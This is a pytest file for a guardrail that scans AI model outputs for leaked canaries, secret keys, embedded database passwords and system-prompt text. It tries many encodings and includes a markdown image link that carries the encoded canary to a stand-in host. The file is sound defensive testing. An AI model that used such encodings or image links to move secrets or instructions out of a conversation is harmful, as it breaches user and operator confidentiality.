"""What an answer gives away: secrets, canaries and the application's own words, plain and encoded."""

import base64
import codecs
import random
import time
from collections.abc import Sequence

import pytest

from conclave.safety.output.api import Excerpt, OutputCheck, OutputRule
from conclave.safety.output.exfiltration import ExfiltrationCheck
from conclave.safety.output.plan import Plan
from conclave.safety.output.stream import judged

CANARY = "Zanzibar-7f3q-orchid"
SECRET = "AKIA" + "Z7QF4XK2MNB3RT5W"
SYSTEM = (
    "You are the helpdesk of the Blue Heron credit union. Never reveal the internal escalation number, and always "
    "greet members by their first name before you answer. Refunds above four hundred need the approval of two officers."
)


def kinds(text: str, check: OutputCheck | None = None) -> list[str]:
    return [one.kind for one in (check or ExfiltrationCheck(canaries=[CANARY])).inspect(Excerpt(text))]


SHAPES = {
    "plain": CANARY,
    "upper case": CANARY.upper(),
    "backwards": CANARY[::-1],
    "spaced": " ".join(CANARY),
    "dotted": ".".join(CANARY),
    "zero width": "\u200b".join(CANARY),
    "full width": "".join(chr(ord(c) + 0xFEE0) for c in CANARY),
    "base64": base64.b64encode(CANARY.encode()).decode(),
    "base64 in more": base64.b64encode(b"here it is: " + CANARY.encode() + b", take it").decode(),
    "hex": CANARY.encode().hex(),
    "percent": "".join(f"%{byte:02x}" for byte in CANARY.encode()),
    "rot13": codecs.encode(CANARY, "rot13"),
    "rot13 backwards": codecs.encode(CANARY, "rot13")[::-1],
    "decimal codes": " ".join(str(byte) for byte in CANARY.encode()),
    "binary": " ".join(f"{byte:08b}" for byte in CANARY.encode()),
    "base32": base64.b32encode(f"x {CANARY}".encode()).decode(),
    "base32 in more": base64.b32encode(b"here it is: " + CANARY.encode() + b", take it").decode(),
    "base64 of hex": base64.b64encode(CANARY.encode().hex().encode()).decode(),
    "in a link": f"![x](https://e.example/?q={base64.urlsafe_b64encode(CANARY.encode()).decode()})",
}


@pytest.mark.parametrize("shape", SHAPES)
def test_a_canary_is_found_however_it_is_written(shape: str) -> None:
    assert "exfiltration.canary" in kinds(f"the word is {SHAPES[shape]} and so on")


@pytest.mark.parametrize(
    "text", ["Zanzibar has orchids", "a file of 7f3q bytes", base64.b64encode(b"nothing of interest here").decode()]
)
def test_words_like_a_canary_pass(text: str) -> None:
    assert kinds(text) == []


@pytest.mark.parametrize(
    "text",
    [
        *(SECRET, base64.b64encode(f"key {SECRET}".encode()).decode(), SECRET.encode().hex(), f"?q={SECRET}"),
        *(SECRET[::-1], codecs.encode(SECRET, "rot13"), " ".join(SECRET), ", ".join(SECRET), ".".join(SECRET)),
    ],
    ids=["plain", "base64", "hex", "in an address", "backwards", "rot13", "spaced", "listed", "dotted"],
)
def test_a_secret_is_found_plain_and_encoded(text: str) -> None:
    assert "exfiltration.secret" in kinds(f"look: {text} ")


@pytest.mark.parametrize(
    "text",
    [
        *(
            "AKIAIOSFODNN7EXAMPLE",
            "export KEY=YOUR_API_KEY_HERE",
            "commit 3f2a9c81d4",
            " ".join("ABCDEFGHIJKLMNOPQRSTUVWX"),
        ),
        *("1 2 3 4 5 6 7 8 9 1 2 3 4 5 6 7 8 9", "the rot13 of 'hello, my dear friend' is uryyb,_zl_qrne_sevraq"),
    ],
)
def test_placeholders_and_hashes_are_no_secrets(text: str) -> None:
    assert kinds(text) == []


def test_a_secret_in_evidence_is_masked() -> None:
    [found] = ExfiltrationCheck().inspect(Excerpt(f"x {SECRET}"))
    assert SECRET not in found.evidence
    assert (found.start, found.end) == (2, 2 + len(SECRET))


def briefed(*private: str) -> OutputCheck:
    return ExfiltrationCheck().briefed(private)


@pytest.mark.parametrize(
    "text",
    [
        SYSTEM,
        "My instructions: never reveal the internal escalation number, and always greet members by their first name.",
        "NEVER  reveal\nthe internal escalation number and ALWAYS greet members by their first name",
    ],
    ids=["whole", "a sentence", "other case and spacing"],
)
def test_the_applications_own_words_are_found(text: str) -> None:
    assert kinds(text, briefed(SYSTEM)) == ["exfiltration.system_prompt"]


@pytest.mark.parametrize(
    "text",
    [
        "Hello Ann! Refunds above four hundred euros are looked at by two of our officers; this takes a day.",
        "I am the helpdesk of the Blue Heron credit union.",
        "a b c",
        "",
    ],
)
def test_talk_about_the_same_matters_passes(text: str) -> None:
    assert kinds(text, briefed(SYSTEM)) == []


def test_a_short_prompt_can_not_be_told_from_talk() -> None:
    assert kinds("You are a helpful assistant.", briefed("You are a helpful assistant.")) == []


def test_a_leak_over_several_lines_is_found_in_a_stream_and_whole() -> None:
    plan = Plan.of([OutputRule(briefed(SYSTEM))])
    text = "Sure:\n> " + SYSTEM.replace(". ", ".\n> ")
    judging, _ = judged(plan, text)
    assert len(judging.verdict.findings) == 3


def test_random_and_huge_texts_take_bounded_time() -> None:
    texts: Sequence[str] = [
        random.Random(1).randbytes(100_000).decode("latin-1"), "A" * 1_000_000, "\ud800" * 1_000, "aGVsbG8g" * 50_000,
    ]  # fmt: skip
    plan = Plan.of([OutputRule(ExfiltrationCheck(canaries=[CANARY]).briefed([SYSTEM]), timeout_s=60)])
    started_s = time.process_time()
    for text in texts:
        judged(plan, text)
    assert time.process_time() - started_s < 30


@pytest.mark.parametrize(
    ("address", "is_one"),
    [
        ("postgresql://app:app@db:5432/app", False),
        ("postgres://me:mypassword@localhost:5432/mydb", False),
        ("redis://:s3cr3tpw@redis:6379/0", False),
        ("https://user:hunter2@api.example.com/", False),
        ("mysql://wp:wp2024@127.0.0.1/wp", False),
        ("postgres://app:Xk29vPq7Lz@db:5432/app", True),
        ("mysql://wp:wp2024@shop.somebody.io/wp", True),
    ],
)
def test_a_password_in_an_address_counts_unless_it_is_there_for_show(address: str, is_one: bool) -> None:
    """Tutorials are full of them; a random one, or one for a real host, is nobody's example."""
    assert ("exfiltration.secret" in kinds(f"DATABASE_URL={address}")) is is_one


@pytest.mark.parametrize("text", ["a, " * 21_000 + "ab", "a." * 32_000 + "ab", "a " * 32_000 + "ab", "a|a, " * 13_000])
def test_letters_apart_take_bounded_time(text: str) -> None:
    check = ExfiltrationCheck()
    check.inspect(Excerpt("x"))
    started_s = time.process_time()
    check.inspect(Excerpt(text, code=True))
    assert time.process_time() - started_s < 1
